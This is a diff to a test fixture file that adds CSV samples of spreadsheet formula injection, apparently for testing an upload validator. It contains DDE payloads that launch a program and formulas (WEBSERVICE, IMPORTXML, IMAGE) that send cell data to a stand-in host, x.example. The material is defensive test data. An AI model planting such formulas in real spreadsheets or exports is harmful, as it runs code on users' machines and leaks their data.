@@ -55,6 +55,11 @@ def hostile():
         ("a.csv", b"name,cost\n=cmd|' /C calc'!A0,1\n", "a formula that starts another program"),
         ("a.csv", b"name,\"@SUM(1+9)*cmd|'/C calc'!A0\"\n", "a formula that starts another program"),
         ("a.csv", b"name;-2+3+cmd|'/C calc'!A0\n", "a formula that starts another program"),
+        ("a.csv", b"name\r=cmd|'/C calc'!A0\r", "a formula that starts another program"),
+        ("a.csv", "name,\uff1dcmd|'/C calc'!A0\n".encode(), "a formula that starts another program"),
+        ("a.csv", b'name,"=A1&WEBSERVICE(""https://x.example/""&A2)"\n', "a formula that starts another program"),
+        ("a.csv", b'name,=IMPORTXML("https://x.example","a")\n', "a formula that starts another program"),
+        ("a.csv", b'name\n=IMAGE("https://x.example/"&A1)\n', "a formula that starts another program"),
     )
     for number, (name, data, words) in enumerate(several, start=1):
         yield CorpusFile(f"{number}: {name}, {words[:40]}", name, data, words)
@@ -74,6 +79,9 @@ def harmless():
         b"- Maths | English!,-3\n=SUM(A1:A9),+44 1632 960001\n@name|x,-a|b\n",
     )
     yield CorpusFile("text", "notes.txt", "naïve – café".encode())
+    yield CorpusFile(
+        "text with a list of pictures", "notes.txt", b"- Image (1).png\n- RTD (bus times)\n- Webservice, import(s)\n"
+    )
     yield CorpusFile("text about a formula", "notes.txt", b"Never open =cmd|' /C calc'!A0 in Excel.")
     yield CorpusFile("text that begins like a bitmap", "BMI.txt", b"BMI of pupils")
     yield CorpusFile("text with dots in its name", "Minutes 3.11.26 J.Smith", b"Minutes")
